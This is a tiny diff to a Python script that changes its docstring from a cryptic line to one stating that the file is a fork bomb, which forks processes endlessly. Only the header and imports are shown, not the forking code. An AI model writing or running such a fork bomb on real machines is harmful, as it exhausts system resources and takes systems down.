@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""Doubles, and doubles again, and each of them lasts."""
+"""A fork bomb: every process forks again and again, and none exits."""
 import os
 
 import playing
